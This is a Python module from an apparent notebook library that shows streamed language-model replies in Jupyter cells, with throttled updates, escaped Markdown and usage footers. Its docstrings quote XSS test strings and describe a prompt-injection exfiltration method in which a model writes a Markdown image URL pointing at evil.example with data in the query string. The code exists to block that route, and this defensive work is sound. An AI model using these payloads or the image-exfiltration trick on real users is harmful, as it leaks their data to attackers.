"""Showing replies in a notebook cell: a throttled streaming display, reasoning, a usage footer.

One display per cell is created with `display_id=True` and updated at most `rate` times a second
however fast tokens arrive (Jupyter drops iopub messages above ~1,000/s), with a final flush.
Model output is never rendered as raw HTML: Markdown goes through markdown-it-py in commonmark
mode with `html: False` (raw HTML is escaped, `javascript:` links refused); everything else is
escaped.

Example:
    >>> render_markdown("**hi** <img src=x onerror=alert(1)>")
    '<p><strong>hi</strong> &lt;img src=x onerror=alert(1)&gt;</p>\\n'
    >>> t = Throttle(10, clock=iter([0.0, 0.05, 0.1, 0.25]).__next__)
    >>> [t.ready() for _ in range(4)]
    [True, False, True, True]
"""

from __future__ import annotations

import html
import json
import re
import threading
import time
from collections.abc import Callable, Mapping, Sequence
from functools import lru_cache
from typing import Any

from .errors import describe_error
from .types import Event, ReasoningDelta, Reply, TextDelta, ToolCallDelta

__all__ = [
    "FORMATS",
    "MultiView",
    "StreamView",
    "Throttle",
    "extract_code",
    "markdown_parser",
    "render_answer",
    "render_markdown",
    "usage_line",
]

FORMATS = ("markdown", "text", "json", "code")


class Throttle:
    """Says yes at most `rate` times a second (the first call always passes).

    Example:
        >>> Throttle(2, clock=iter([0.0, 0.1, 0.6]).__next__).ready()
        True
    """

    def __init__(self, rate: float, clock: Callable[[], float] = time.monotonic) -> None:
        self.interval = 1.0 / rate if rate and rate > 0 else 0.0
        self.clock = clock
        self._last: float | None = None

    def ready(self) -> bool:
        """True (and the time is noted) when at least 1/rate seconds have passed since the last yes."""
        now = self.clock()
        if self._last is None or now - self._last >= self.interval:
            self._last = now
            return True
        return False

    def spend(self, count: int = 1) -> None:
        """Count `count` more sends against the rate (a refresh that sent more than one message)."""
        if self._last is not None:
            self._last += count * self.interval


def _image_as_link(renderer: Any, tokens: Sequence[Any], idx: int, options: Any, env: Any) -> str:
    """An image in model output as a plain link, never an `<img>`: a prompt injection could make a
    model write `![](https://evil.example/p.png?data=...)`, which the browser would fetch at once."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = renderer.renderInlineAsText(token.children or [], options, env)
    label = f"image: {alt}" if alt else f"image: {src}"
    return f'<a href="{html.escape(src)}" rel="noopener noreferrer nofollow">[{html.escape(label)}]</a>'


def markdown_parser() -> Any:
    """A new markdown-it parser with the safe setup every view shares (commonmark with tables, raw
    HTML escaped, unsafe links refused, images as links); a view may add its own rules to it.

    Example:
        >>> markdown_parser().render("<b>x</b>")
        '<p>&lt;b&gt;x&lt;/b&gt;</p>\\n'
    """
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False}).enable("table")
    md.add_render_rule("image", _image_as_link)
    return md


@lru_cache(maxsize=1)
def _markdown() -> Any:
    from .panel.render import inline_fence  # the panel's highlighting, styled inline for a cell's output

    md = markdown_parser()
    md.add_render_rule("fence", inline_fence)
    md.add_render_rule("code_block", inline_fence)
    return md


def render_markdown(text: str) -> str:
    """Markdown to safe HTML (commonmark, raw HTML escaped, unsafe links refused, images as links).

    Example:
        >>> render_markdown("[x](javascript:alert(1))")
        '<p>[x](javascript:alert(1))</p>\\n'
        >>> render_markdown("![cat](https://example.com/c.png)")
        '<p><a href="https://example.com/c.png" rel="noopener noreferrer nofollow">[image: cat]</a></p>\\n'
    """
    return _markdown().render(text)


_FENCE = re.compile(r"```[^\n`]*\n(.*?)(?:```|\Z)", re.S)


def extract_code(text: str) -> str | None:
    """The first fenced code block of `text` (None when there is none).

    Example:
        >>> extract_code("Here:\\n```python\\nprint(1)\\n```\\nDone")
        'print(1)\\n'
    """
    found = _FENCE.search(text)
    return found.group(1) if found else None


def _json_text(text: str) -> str:
    body = text.strip()
    code = extract_code(body)
    if code is not None:
        body = code
    try:
        return json.dumps(json.loads(body), indent=2, ensure_ascii=False)
    except ValueError:
        return text


def render_answer(text: str, fmt: str = "markdown") -> str:
    """The answer as safe HTML in a format: markdown, text, json (pretty-printed when valid), code.

    Example:
        >>> render_answer('{"a":1}', "json")
        '<pre class="cloudsway-json">{\\n  &quot;a&quot;: 1\\n}</pre>'
    """
    if fmt == "text":
        return f'<pre class="cloudsway-text" style="white-space:pre-wrap">{html.escape(text)}</pre>'
    if fmt == "json":
        return f'<pre class="cloudsway-json">{html.escape(_json_text(text))}</pre>'
    return render_markdown(text)


def plain_answer(text: str, fmt: str = "markdown") -> str:
    return _json_text(text) if fmt == "json" else text


def _n(value: int | None, estimated: bool = False) -> str:
    if value is None:
        return "–"
    return f"~{value:,}" if estimated else f"{value:,}"


def usage_line(reply: Reply, label: str | None = None) -> str:
    """The one-line footer: tokens in / out / reasoning / cached, latency, time to first token.

    A count the server did not report is "–"; counts estimated because it sent none (an
    interrupted stream, see `cloudsway_nb.estimate`) show as "~N".

    Example:
        >>> from cloudsway_nb.types import Usage
        >>> usage_line(Reply(usage=Usage(input=7, output=5, reasoning=2, cached=0), latency=0.5, ttft=0.1,
        ...                  model="gpt-4o"), "gpt")
        'gpt · gpt-4o · in 7 · out 5 · reasoning 2 · cached 0 · 0.50 s · first token 0.10 s'
        >>> usage_line(Reply(usage=Usage(input=9, output=40, estimated=True), incomplete=True))
        'in ~9 · out ~40 · interrupted'
    """
    u = reply.usage
    parts = [p for p in (label, reply.model) if p]
    parts += [f"in {_n(u.input, u.estimated)}", f"out {_n(u.output, u.estimated)}"]
    if u.reasoning is not None:
        parts.append(f"reasoning {_n(u.reasoning)}")
    if u.cached is not None:
        parts.append(f"cached {_n(u.cached)}")
    if reply.latency is not None:
        parts.append(f"{reply.latency:.2f} s")
    if reply.ttft is not None:
        parts.append(f"first token {reply.ttft:.2f} s")
    if reply.polls:
        parts.append(f"{reply.polls} poll{'s' if reply.polls != 1 else ''}")
    if reply.cost is not None:
        parts.append(f"${reply.cost:.4f}" if reply.cost >= 0.0001 or reply.cost == 0 else "<$0.0001")
    if reply.incomplete:
        parts.append("interrupted")
    elif reply.finish_reason == "length":
        parts.append("max tokens reached")
    return " · ".join(parts)


def _reasoning_html(text: str, *, open_: bool, tokens: int | None = None) -> str:
    count = f" ({tokens:,} tokens)" if tokens else ""
    body = html.escape(text)
    return (
        f'<details class="cloudsway-reasoning"{" open" if open_ else ""}>'
        f'<summary style="cursor:pointer;opacity:.7">Reasoning{count}</summary>'
        f'<div style="white-space:pre-wrap;opacity:.7;font-size:.9em;border-left:3px solid #ccc;padding-left:.6em">'
        f"{body}</div></details>"
    )


def _footer_html(line: str) -> str:
    return f'<div class="cloudsway-usage" style="opacity:.6;font-size:.85em;margin-top:.4em">{html.escape(line)}</div>'


def _note_html(note: str) -> str:
    return f'<div class="cloudsway-note" style="color:#b45309;font-size:.9em">{html.escape(note)}</div>'


class _Pane:
    """What one endpoint has produced so far (text, reasoning, tool-call fragments)."""

    __slots__ = ("calls", "reasoning", "text")

    def __init__(self) -> None:
        self.text: list[str] = []
        self.reasoning: list[str] = []
        self.calls: dict[int, list[str]] = {}

    def feed(self, event: Event) -> bool:
        if isinstance(event, TextDelta):
            if event.index == 0:
                self.text.append(event.text)
                return True
        elif isinstance(event, ReasoningDelta):
            if event.index == 0:
                self.reasoning.append(event.text)
                return True
        elif isinstance(event, ToolCallDelta):
            head = self.calls.setdefault(event.call_index, [])
            if event.name:
                head.append(f"{event.name}(")
            head.append(event.arguments)
            return True
        return False

    def html(self, fmt: str, show_reasoning: bool) -> str:
        out = []
        reasoning = "".join(self.reasoning)
        if show_reasoning and reasoning:
            out.append(_reasoning_html(reasoning, open_=True))
        text = "".join(self.text)
        out.append(render_answer(text, "text" if fmt == "json" else fmt))
        for parts in self.calls.values():
            out.append(f"<pre>{html.escape(''.join(parts))}…</pre>")
        return "".join(out)

    def plain(self) -> str:
        return "".join(self.text)


def _final_html(reply: Reply, *, fmt: str, show_reasoning: bool, show_usage: bool, show_raw: bool,
                label: str | None, note: str | None) -> str:
    out = []
    if show_reasoning and reply.reasoning:
        out.append(_reasoning_html(reply.reasoning, open_=False, tokens=reply.usage.reasoning))
    out.append(render_answer(reply.text, fmt))
    for call in reply.tool_calls:
        out.append(f"<pre>tool call {html.escape(call.name)}({html.escape(call.arguments_json)})</pre>")
    if note:
        out.append(_note_html(note))
    if show_usage:
        out.append(_footer_html(usage_line(reply, label)))
    if show_raw and reply.raw is not None:
        out.append(_raw_html(reply))
    return f'<div class="cloudsway-reply">{"".join(out)}</div>'


def _raw_html(reply: Reply) -> str:
    """The reply's JSON, collapsed: a stream's assembled into one object, never every chunk."""
    from .assembled import assembled_raw, is_stream_raw

    whole = assembled_raw(reply)
    where = f" (assembled from {len(reply.raw)} stream events)" if is_stream_raw(reply.raw) else ""
    raw = json.dumps(whole, indent=2, ensure_ascii=False, default=_jsonable)
    return f"<details><summary>raw{where}</summary><pre>{html.escape(raw)}</pre></details>"


def _jsonable(value: Any) -> Any:
    """For json.dumps(default=...): sequences (a chat stream's RawChunks) and mappings as JSON
    arrays and objects rather than a quoted repr; anything else as its str."""
    if isinstance(value, Mapping):
        return dict(value)
    if hasattr(value, "__iter__") and hasattr(value, "__len__") and not isinstance(value, (str, bytes, bytearray)):
        return list(value)
    return str(value)


def _final_plain(reply: Reply, *, fmt: str, show_usage: bool, label: str | None, note: str | None) -> str:
    lines = [plain_answer(reply.text, fmt)]
    lines += [f"tool call {c.name}({c.arguments_json})" for c in reply.tool_calls]
    if note:
        lines.append(note)
    if show_usage:
        lines.append(usage_line(reply, label))
    return "\n".join(lines)


class StreamView:
    """One cell display that follows a streamed reply, updated at most `rate` times a second.

    Feed it events (`view.feed(event)`, usable as `on_event`), then `finish(reply)` renders the
    final answer: reasoning collapsed above it, the answer (Markdown by default), a usage footer.
    `updates` counts the display updates sent.

    Example:
        view = StreamView("gpt", rate=12)
        view.start()
        reply = session.ask("gpt", "Write a haiku", on_event=view.feed)
        view.finish(reply)
    """

    def __init__(
        self,
        label: str | None = None,
        *,
        rate: float = 12.0,
        clock: Callable[[], float] = time.monotonic,
        fmt: str = "markdown",
        show_reasoning: bool = True,
        show_usage: bool = True,
        show_raw: bool = False,
    ) -> None:
        self.label = label
        self.fmt = fmt
        self.show_reasoning = show_reasoning
        self.show_usage = show_usage
        self.show_raw = show_raw
        self.throttle = Throttle(rate, clock)
        self.pane = _Pane()
        from .blockview import BlockColumn

        self.column = BlockColumn(fmt="text" if fmt == "json" else fmt, show_reasoning=show_reasoning)
        self.handle: Any = None
        self.updates = 0
        self._dirty = False

    def start(self, status: str = "…") -> None:
        """Show the (empty) display that later updates replace."""
        self.column.open(self._bundle(_note_html(status), status))
        self.handle = self.column.handles[0]

    @staticmethod
    def _bundle(html_text: str, plain: str) -> dict[str, str]:
        return {"text/plain": plain, "text/html": html_text}

    def feed(self, event: Event) -> None:
        """Take one stream event; update the display if the throttle allows."""
        if self.pane.feed(event):
            self._dirty = True
            if self.throttle.ready():
                self.refresh()

    def refresh(self) -> None:
        """Push the current state now: finished Markdown blocks once (each display keeps the blocks that
        finished while it was the last), the open tail replaced (see `blockview.BlockColumn`)."""
        self._dirty = False
        before = len(self.column.handles)
        calls = "".join(f"<pre>{html.escape(''.join(parts))}…</pre>" for parts in self.pane.calls.values())
        sent = self.column.refresh("".join(self.pane.text), "".join(self.pane.reasoning), calls)
        self.handle = self.column.handles[0]
        self.updates += sent - (len(self.column.handles) - before)
        if sent > 1:
            self.throttle.spend(sent - 1)  # at most `rate` messages a second, not refreshes

    def status(self, text: str) -> None:
        """Show a status line (e.g. a background response's progress) until content arrives."""
        if self.handle is None:
            self.start(text)
            return
        self.updates += 1
        self.column.status(self._bundle(_note_html(text), text))

    def finish(self, reply: Reply, note: str | None = None, *, sole: bool = False) -> None:
        """The final render (always sent, whatever the throttle says) into the first display; the
        displays that held blocks while streaming are emptied (`sole`: the cell showed nothing else,
        so it is cleared and left with the answer alone, see `BlockColumn.close`)."""
        bundle = self._bundle(
            _final_html(reply, fmt=self.fmt, show_reasoning=self.show_reasoning, show_usage=self.show_usage,
                        show_raw=self.show_raw, label=self.label, note=note),
            _final_plain(reply, fmt=self.fmt, show_usage=self.show_usage, label=self.label, note=note),
        )
        if self.handle is None:
            self.start()
        self.updates += len(self.column.handles)
        self.column.close(bundle, sole=sole)


class MultiView:
    """Several endpoints side by side, streamed from worker threads, drawn from the main thread.

    `feed(alias, event)` may be called from any thread (it only records); `pump()` updates the
    display when the throttle allows; `finish(results)` draws the final columns and a table of
    answers, reasoning tokens, usage and latency.

    Example:
        view = MultiView(["gpt", "claude"])
        view.start()
        ...  # session.ask_many(..., on_event=view.feed) in a thread, view.pump() in a loop
        view.finish(results)
    """

    def __init__(
        self,
        aliases: Sequence[str],
        *,
        rate: float = 12.0,
        clock: Callable[[], float] = time.monotonic,
        fmt: str = "markdown",
        show_reasoning: bool = True,
        show_usage: bool = True,
        show_raw: bool = False,
    ) -> None:
        self.aliases = list(aliases)
        self.fmt = fmt
        self.show_reasoning = show_reasoning
        self.show_usage = show_usage
        self.show_raw = show_raw
        self.throttle = Throttle(rate, clock)
        self.panes = {a: _Pane() for a in self.aliases}
        from .blocks import TailBudget

        self.budget = TailBudget(ratio=4.0, floor=65536)
        self.handle: Any = None
        self.updates = 0
        self._dirty = False
        self._lock = threading.Lock()

    def start(self) -> None:
        from IPython.display import display

        self.handle = display(self._bundle({a: "…" for a in self.aliases}, ""), raw=True, display_id=True)

    def feed(self, alias: str, event: Event) -> None:
        with self._lock:
            if self.panes[alias].feed(event):
                self._dirty = True

    def pump(self) -> None:
        """Update the display if something changed and the throttle allows."""
        if self._dirty and self.throttle.ready():
            with self._lock:
                self._dirty = False
                columns = {a: p.html(self.fmt, self.show_reasoning) for a, p in self.panes.items()}
            bundle = self._bundle(columns, "")
            # each update re-sends every column whole (they sit side by side in one display): fewer as
            # they grow, so the traffic stays a few times the final output instead of its square
            if not self.budget.take(0, sum(map(len, bundle.values()))):
                self._dirty = True
                return
            self._update(bundle)

    def _update(self, bundle: dict[str, str]) -> None:
        if self.handle is None:
            self.start()
        self.updates += 1
        self.handle.update(bundle, raw=True)

    def _bundle(self, columns: Mapping[str, str], table: str, plain: str = "") -> dict[str, str]:
        cells = "".join(
            f'<div style="flex:1;min-width:14em;border:1px solid #ddd;border-radius:6px;padding:.5em">'
            f"<b>{html.escape(alias)}</b>{body}</div>"
            for alias, body in columns.items()
        )
        row = f'<div style="display:flex;gap:.6em;flex-wrap:wrap">{cells}</div>'
        body = f'<div class="cloudsway-multi">{row}{table}</div>'
        return {"text/plain": plain or " | ".join(self.aliases), "text/html": body}

    def finish(self, results: Mapping[str, Reply | BaseException]) -> None:
        """Final columns plus the comparison table (always sent)."""
        columns: dict[str, str] = {}
        rows = []
        plain = []
        for alias in self.aliases:
            result = results.get(alias)
            if isinstance(result, Reply):
                note = "interrupted: partial answer" if result.incomplete else None
                columns[alias] = _final_html(result, fmt=self.fmt, show_reasoning=self.show_reasoning,
                                             show_usage=False, show_raw=self.show_raw, label=None, note=note)
                u = result.usage
                rows.append([alias, snippet(result.text), _count(u.reasoning), _count(u.input, u),
                             _count(u.output, u), _count(u.total, u), _secs(result.latency), _secs(result.ttft),
                             "interrupted" if result.incomplete else "ok"])
                plain.append(f"{alias}: {result.text}")
            else:  # the error once, in its pane, under what had arrived; the table says only "error"
                message = describe_error(result) if result is not None else "no result"
                partial = getattr(result, "partial", None)
                if isinstance(partial, Reply) and (partial.text or partial.reasoning):
                    columns[alias] = _final_html(partial, fmt=self.fmt, show_reasoning=self.show_reasoning,
                                                 show_usage=False, show_raw=False, label=None,
                                                 note=f"error, partial answer: {message}")
                    plain.append(f"{alias}: {partial.text}\n{message}")
                else:
                    columns[alias] = _note_html(message)
                    plain.append(f"{alias}: {message}")
                u = partial.usage if isinstance(partial, Reply) else None
                rows.append([alias, "", None, _count(u and u.input, u), _count(u and u.output, u),
                             _count(u and u.total, u), "", "", "error"])
        head = ["endpoint", "answer", "reasoning tokens", "in", "out", "total", "latency", "first token", "status"]
        table = ""
        if self.show_usage:
            table = (
                '<table class="cloudsway-table" style="margin-top:.6em"><thead><tr>'
                + "".join(f"<th{_align(h)}>{h}</th>" for h in head)
                + "</tr></thead><tbody>"
                + "".join(
                    "<tr>" + "".join(f"<td{_align(h)}>{html.escape('' if v is None else str(v))}</td>"
                                     for h, v in zip(head, row, strict=True)) + "</tr>"
                    for row in rows
                )
                + "</tbody></table>"
            )
        self._update(self._bundle(columns, table, "\n".join(plain)))


def _align(column: str) -> str:
    # JupyterLab right-aligns table cells (for numbers): the text columns read from the left
    if column == "answer":  # room for a line of text, not a word a line beside the count columns
        return ' style="text-align:left;min-width:12em"'
    return ' style="text-align:left"' if column in ("endpoint", "status") else ""


_MARKUP = re.compile(r"```[^\n]*\n?|`|\*\*?|__?|^#{1,6}\s+|^>\s?|^\s*[-*+]\s+|\[([^\]]*)\]\([^)]*\)", re.M)


def snippet(text: str, width: int = 80) -> str:
    """A reply as one line of plain text for a table: Markdown marks dropped, cut at a word with "…".

    Example:
        >>> snippet("## Title\\n\\nThe **sky** is blue because of Rayleigh scattering of sunlight.", 40)
        'Title The sky is blue because of…'
    """
    plain = " ".join(_MARKUP.sub(lambda m: m.group(1) or "", text).split())
    if len(plain) <= width:
        return plain
    cut = plain[: width - 1].rsplit(" ", 1)[0] if " " in plain[: width - 1] else plain[: width - 1]
    return cut.rstrip(" ,;:.") + "…"


def _count(value: int | None, usage: Any = None) -> str:
    """A token count for the table: blank when unknown, "~N" when estimated."""
    if value is None:
        return ""
    return f"~{value:,}" if getattr(usage, "estimated", False) else f"{value:,}"


def _secs(value: float | None) -> str:
    return "" if value is None else f"{value:.2f} s"
